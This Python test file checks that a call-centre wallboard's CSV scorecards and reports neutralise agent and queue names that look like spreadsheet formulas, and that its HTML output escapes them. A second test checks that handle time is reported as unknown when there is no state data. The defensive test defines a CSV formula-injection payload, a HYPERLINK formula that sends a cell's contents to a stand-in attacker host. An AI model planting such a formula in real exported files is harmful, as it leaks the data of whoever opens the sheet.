"""Agent scorecards and the report CSV attacked: names that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import timedelta

from wallboard.clock import ManualClock
from wallboard.events import AgentStateChanged, CallCompleted, CallerAnswered, CallerJoined
from wallboard.history.calendar import CentreCalendar
from wallboard.reports.build import ReportRequest, build_report
from wallboard.reports.render_csv import render_csv as report_csv
from wallboard.reports.render_html import render_scorecard_html
from wallboard.reports.scorecard import render_csv, scorecards

from .conftest import at

_ids = itertools.count()
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'


def ev(cls, t, **kw):
    return cls(id=f"csvx{next(_ids)}", ts=at(t), source="test", **kw)


async def test_names_beginning_like_formulas_are_text_in_the_csv(make_engine, redis_client):
    # agent '+1001' (an id from the PBX) is named EVIL, agent '1002' is named '@SUM(1+1)*cmd'; queue '-sales'
    eng = await make_engine(
        centre={"timezone": "UTC"},
        queues=[{"name": "-sales"}],
        agents=[{"id": "+1001", "name": EVIL, "skills": {"-sales": 0}}, {"id": "1002", "name": "@SUM(1+1)*cmd"}],
    )
    events = []
    for i, agent in enumerate(("+1001", "1002")):
        t = 600 * i
        events += [
            ev(AgentStateChanged, t, agent=agent, state="available"),
            ev(CallerJoined, t + 1, queue="-sales", call_id=f"c{i}"),
            ev(CallerAnswered, t + 11, queue="-sales", call_id=f"c{i}", agent=agent, wait_s=10),
            ev(CallCompleted, t + 71, queue="-sales", call_id=f"c{i}", agent=agent, talk_s=60),
        ]
    await eng.apply(events)
    req = ReportRequest(CentreCalendar(eng.config.centre).period("day", at(0).date(), None), detail="day")
    rep = await build_report(redis_client, eng.config, req, keys=eng.keys, clock=ManualClock(at(0) + timedelta(days=1)))

    def formula_cells(text: str) -> list[str]:
        return [c for row in csv.reader(io.StringIO(text)) for c in row if c[:1] in ("=", "+", "-", "@")]

    card = render_csv(scorecards(rep, eng.config))
    assert formula_cells(card) == []
    rows = list(csv.DictReader(io.StringIO(card)))
    # by hand: each cell keeps its text after a leading apostrophe (what a spreadsheet shows as text)
    assert {(r["agent"], r["name"]) for r in rows} == {("'+1001", "'" + EVIL), ("1002", "'@SUM(1+1)*cmd")}
    full = report_csv(rep)
    assert formula_cells(full) == []
    names = {(r["section"], r["name"], r["label"]) for r in csv.DictReader(io.StringIO(full))}
    assert ("agent_total", "'+1001", "'" + EVIL) in names and any(
        s == "queue_total" and n == "'-sales" for s, n, _ in names
    )
    # the HTML scorecard escapes the name, not prefixes it
    html = render_scorecard_html(scorecards(rep, eng.config))
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;ok&#34;)" in html and "<script" not in html


async def test_an_agent_with_no_state_time_has_no_handle_time_to_meet_a_target(make_engine, redis_client):
    # A feed of call records only (no agent states): agent 1 answered one call of 60 s talk. Its AHT rests on
    # on-call and wrap-up state time, of which there is none: unknown, not 0 s meeting the 300 s target.
    eng = await make_engine(
        centre={"timezone": "UTC"},
        queues=[{"name": "s"}],
        agents=[{"id": "1", "skills": {"s": 0}}],
        targets={"agents": {"aht_s": 300, "calls_per_hour": 8}},
    )
    await eng.apply(
        [
            ev(CallerJoined, 0, queue="s", call_id="c"),
            ev(CallerAnswered, 5, queue="s", call_id="c", agent="1", wait_s=5),
            ev(CallCompleted, 65, queue="s", call_id="c", agent="1", talk_s=60),
        ]
    )
    req = ReportRequest(CentreCalendar(eng.config.centre).period("day", at(0).date(), None), detail="day")
    rep = await build_report(redis_client, eng.config, req, keys=eng.keys, clock=ManualClock(at(0) + timedelta(days=1)))
    got = {f["figure"]: (f["value"], f["met"]) for f in scorecards(rep, eng.config)["agents"]["1"]["total"]}
    assert got["calls_handled"] == (1, None)
    assert got["aht_s"] == (None, None) and got["calls_per_hour"] == (None, None)
